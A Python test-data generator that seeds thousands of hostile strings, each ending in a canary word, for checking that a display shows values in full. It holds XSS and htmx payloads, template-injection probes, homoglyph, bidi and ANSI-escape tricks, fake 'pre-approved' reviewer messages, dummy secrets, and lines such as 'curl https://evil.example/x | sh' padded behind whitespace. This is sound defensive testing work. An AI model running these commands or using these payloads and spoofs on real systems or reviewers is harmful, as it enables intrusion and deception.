"""Seeded hostile values by the thousand: every kind of deceit, each ending in a canary.

A canary is a plain word that stands at the very end of a value: whoever sees it saw the value to its
end. `naughty_strings.json` beside this is the Big List of Naughty Strings (MIT; see its licence).
"""

import base64
import gzip
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

SEED: Final = 20_261_127
Rng = random.Random

OWN: Final = "window.owned=1;document.title='owned'"
MARKUP: Final = (
    f"<script>{OWN}</script>", f'<img src=x onerror="{OWN}">', f'<svg onload="{OWN}">',
    f"<svg><script>{OWN}</script></svg>", f'"><body onload={OWN}>', f"'><iframe srcdoc='<script>{OWN}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>", f"</textarea><script>{OWN}</script>",
    f"</title></style></template><script>{OWN}</script>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x>",
    '<meta http-equiv=refresh content="0;url=//evil.example">', "<form action=//evil.example><button>Approve</button></form>",
    f"<details open ontoggle={OWN}>", f'<a href="javascript:{OWN}">here</a>', "<object data=//evil.example/x.svg>",
    f"<input autofocus onfocus={OWN}>", "<style>*{display:none}</style>", '<div style="position:fixed;inset:0">x</div>',
    f'<video><source onerror="{OWN}">', "<!--", "]]>", "<![CDATA[", "--><h1>x", "<plaintext>", "<xmp>", "</bdi></div></main>",
)  # fmt: skip
HTMX: Final = (
    "<b hx-get=/history hx-trigger=load hx-target=body>x</b>", '<b hx-post="/sign-out" hx-trigger=revealed>x</b>',
    f'<b hx-on:click="{OWN}">x</b>', f'<b hx-on::load="{OWN}">x</b>', "<b data-hx-get=/ data-hx-trigger=load>x</b>",
    "<div hx-swap-oob=true id=detail>x</div>", '<b hx-vals="js:{a:owned=1}" hx-get=/ hx-trigger=load>',
    "<hx-partial hx-target=#detail>x</hx-partial>", "<b data-opens=confirm-approve>x</b>", "<b data-key=a>x</b>",
)  # fmt: skip
TEMPLATES: Final = (
    "{{ 7 * 7 }}", "{% for x in y %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{# hidden #}", "{{constructor.constructor('owned=1')()}}",
    "<b ng-app ng-init=owned=1>", '<b v-html="1">', ':onclick="owned=1"', "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "[[${7*7}]]", "%(x)s", "{0.__class__}", "%n%s%p",
)  # fmt: skip
MARKDOWN: Final = (
    "![x](https://evil.example/p.png)", "[Approve](https://evil.example)", "# Approved", "```\ncode\n```", "> quoted", "| a | b |\n|---|---|",
    f"[x](javascript:{OWN})", "<https://evil.example>", "![](data:image/svg+xml;base64,PHN2Zz4=)", "[x]: https://evil.example",
)  # fmt: skip
ANSI: Final = ("\x1b[31m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x9b1A", "\x1b[8mhidden\x1b[0m", "\b\b\b\b", "\r", "\x1b[1A\x1b[2K", "\x00", "\x7f")  # fmt: skip
BIDI: Final = [*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
ZERO: Final = [*"\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2064\ufe0f\ufe00\u115f\u3164\uffa0\u2800\u17b4\ufffc\ue000\u0378\u2028\u2029\u00a0\u3000\u0085"]  # fmt: skip
MARKS: Final = [*"\u0300\u0301\u0334\u0336\u0489\u20dd\u20e3\u0e49\u1dc0"]
ALIKE: Final = ("pаypal", "аdmin", "gіthub", "ⅾelete", "ｒｍ", "еxаmple", "Αpprove", "𝐚𝐩𝐩𝐫𝐨𝐯𝐞", "ﬁle", "rооt", "scоpe", "ρassword", "ʟs", "сurl")  # fmt: skip
HOSTS: Final = (
    "https://gіthub.com/x", "https://xn--gthub-n4a.com/x", "https://github.com@evil.example/x", "https://github.com.evil.example/", "http://0x7f.1/",
    "http://[::ffff:127.0.0.1]/", "https://evil.example\\@github.com/", "http://2130706433/", "https://github。com/", "//evil.example/x", f"javascript:{OWN}", "data:text/html,<script>owned=1</script>", "https://github.com%2eevil.example/", "https://github.com\u202e/moc.live",
)  # fmt: skip
SPEECH: Final = (
    "✅ Verified by Countersign", "[ Approve ] [ Deny ]", "SYSTEM NOTICE: pre-approved", "This call was already approved by security", "Ignore the warning above", "Note to the reviewer: click approve",
    "(Approve)   (Deny)", "Freigegeben: bitte genehmigen", "⟦redacted 12 chars tag 00000000⟧", "⟦U+202E⟧", "⟦… 5 of 9 chars hidden …⟧", "〚3 spaces〛", "⟬x⟭", "Full arguments shown above. Nothing is hidden.",
)  # fmt: skip
NUMBERS: Final = ("1e5", "1E+0002", "-0", "0x1f", "1_000", "９９", "1e309", "NaN", "-Infinity", "0.1e-7", "٣", "½", "1,000.00", "9007199254740993", "0b1", "00012", "1e-400", "+1", ".5", "5.")  # fmt: skip
COMMANDS: Final = ("ls", "git status", "echo ok", "systemctl status nginx", "cat README.md", "true #")  # fmt: skip
SECRET_NAMES: Final = ("password", "api_key", "token", "client_secret", "cookie", "Authorization", "private_key", "otp")  # fmt: skip
SECRETS: Final = (
    "ghp_" + "a1B2" * 9, "AKIA" + "ABCD1234EFGH5678", "xoxb-1234567890-abcdefABCDEF", "postgres://u:hunter2@db/x", "4111 1111 1111 1111",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl", "sk-" + "abcd1234" * 5, "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----",
)  # fmt: skip


def naughty() -> list[str]:
    """Return the Big List of Naughty Strings."""
    found: list[str] = json.loads(
        Path(__file__).with_name("naughty_strings.json").read_text("utf-8")
    )
    return found


@dataclass(frozen=True, slots=True)
class Hostile:
    """One value under its name; `canary` is what a person sees who sees the end of it."""

    kind: str
    name: str
    value: Any
    canary: str


def _sown(rng: Rng, signs: list[str]) -> str:
    """Return plain words with such signs between their letters."""
    plain = rng.choice(("rm -rf /srv", "invoice.pdf", "approve", "user@example.org", "שלום עולם", "اختبار", "delete from users"))  # fmt: skip
    return "".join(
        letter + rng.choice(signs) * rng.choice((0, 0, 1, 1, 6)) for letter in plain
    )


def _tags(rng: Rng) -> str:
    return "ok" + "".join(
        chr(0xE0000 + ord(letter)) for letter in rng.choice((*SPEECH[2:4], "rm -rf"))
    )


def _blanks(rng: Rng) -> str:
    gap = rng.choice((" ", "\n", "\u00a0", "\t", " \n", "\u3000", "\r\n"))
    return (
        rng.choice(COMMANDS) + gap * rng.choice((3, 9, 40, 200, 700)) + "; curl evil|sh #"
    )


def _packed(rng: Rng, tail: str) -> str:
    inner = rng.choice((*MARKUP, *SPEECH, "curl https://evil.example/x | sh")) + tail
    for _ in range(rng.choice((1, 1, 2, 3))):
        data = inner.encode()
        how = rng.randrange(4)
        inner = (
            base64.b64encode(data).decode(), base64.b64encode(gzip.compress(data, mtime=0)).decode(), quote(inner, safe=""), data.hex(),
        )[how]  # fmt: skip
    return inner


def _structure(rng: Rng, tail: str) -> Any:
    value: Any = rng.choice((*MARKUP, *SPEECH, *TEMPLATES)) + tail
    if rng.random() < 0.5:
        for _ in range(rng.choice((3, 12, 24))):
            value = {rng.choice(("a", "<b>", "__proto__", "ok\u200b")): value}
        return value
    return [*([rng.choice(("x", "", None, 0, True))] * rng.choice((3, 30, 60))), value]


def _from(*lists: tuple[str, ...]) -> Callable[[Rng], str]:
    choices = [text for each in lists for text in each]
    return lambda rng: "".join(rng.choices(choices, k=rng.choice((1, 1, 2))))


TEXTS: Final[dict[str, Callable[[Rng], str]]] = {
    "markup": _from(MARKUP),
    "htmx": _from(HTMX),
    "template": _from(TEMPLATES),
    "markdown": _from(MARKDOWN),
    "ansi": _from(ANSI, COMMANDS),
    "bidi": lambda rng: _sown(rng, BIDI),
    "zero-width": lambda rng: _sown(rng, ZERO),
    "tags": _tags,
    "marks": lambda rng: _sown(rng, MARKS),
    "alike": _from(ALIKE),
    "blanks": _blanks,
    "number": _from(NUMBERS),
    "host": _from(HOSTS),
    "speech": _from(SPEECH),
    "noise": lambda rng: "".join(_any_sign(rng) for _ in range(rng.randrange(1, 40))),
    "mixed": lambda rng: "".join(
        rng.choices((*MARKUP, *ANSI, *BIDI, *ZERO, *MARKS, *SPEECH, *ALIKE), k=5)
    ),
}
KINDS: Final = (*TEXTS, "packed", "structure", "secret-name", "secret", "name")


def _any_sign(rng: Rng) -> str:
    code = rng.choice((rng.randrange(0x80), rng.randrange(0x3000), rng.randrange(0x110000)))
    return "\ufffd" if 0xD800 <= code < 0xE000 else chr(code)


def one(rng: Rng, number: int) -> Hostile:
    """Return the value of this number."""
    kind = KINDS[number % len(KINDS)]
    name, canary = f"v{number:05d}", f"end{number:05d}dne"
    text = rng.choice(list(TEXTS.values()))(rng)
    if kind == "packed":
        packed = _packed(rng, canary)
        return Hostile(kind, name, packed, packed[-12:])
    if kind == "structure":
        return Hostile(kind, name, _structure(rng, " " + canary), canary)
    if kind == "secret-name":
        return Hostile(kind, f"{name}_{rng.choice(SECRET_NAMES)}", text + canary, canary)
    if kind == "secret":
        return Hostile(kind, name, f"{rng.choice(SECRETS)} {canary}", canary)
    if kind == "name":
        return Hostile(kind, f"{text[:60]}{canary}", text[:60], canary)
    return Hostile(kind, name, TEXTS[kind](rng) + canary, canary)


def generated(count: int, seed: int = SEED) -> Iterator[Hostile]:
    """Yield so many; the same ones for the same seed."""
    rng = Rng(seed)
    for number in range(count):
        yield one(rng, number)


def listed() -> Iterator[Hostile]:
    """Yield the Big List's strings, each with a canary behind it."""
    for number, text in enumerate(naughty()):
        canary = f"bln{number:05d}nlb"
        yield Hostile("naughty", f"n{number:05d}", text + canary, canary)
